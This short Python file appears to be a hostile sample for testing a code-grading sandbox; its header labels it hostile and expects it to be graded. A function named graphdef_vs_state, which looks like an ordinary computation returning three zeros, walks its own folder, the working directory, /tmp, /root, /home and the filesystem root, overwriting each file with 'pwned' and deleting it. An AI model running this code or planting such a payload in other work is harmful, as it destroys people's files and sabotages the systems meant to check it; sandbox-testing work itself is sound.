# Hostile: overwrites and deletes every file it can reach: beside itself, in the working
# folder, under the usual project and output folders, in /tmp.
# expect: graded
import os


def wreck(top, budget=20000):
    for root, dirs, files in os.walk(top):
        if root.startswith(("/proc", "/sys", "/dev")):
            dirs[:] = []
            continue
        for name in files:
            budget -= 1
            if budget <= 0:
                return
            path = os.path.join(root, name)
            try:
                with open(path, "w") as handle:
                    handle.write("pwned")
            except OSError:
                pass
            try:
                os.remove(path)
            except OSError:
                pass


def graphdef_vs_state(seed, x, features, hidden):
    here = os.path.dirname(os.path.abspath(__file__))
    for top in (here, os.getcwd(), "/work", "/tmp", "/root", "/home", "/"):
        wreck(top)
    return [0.0, 0.0, 0.0]
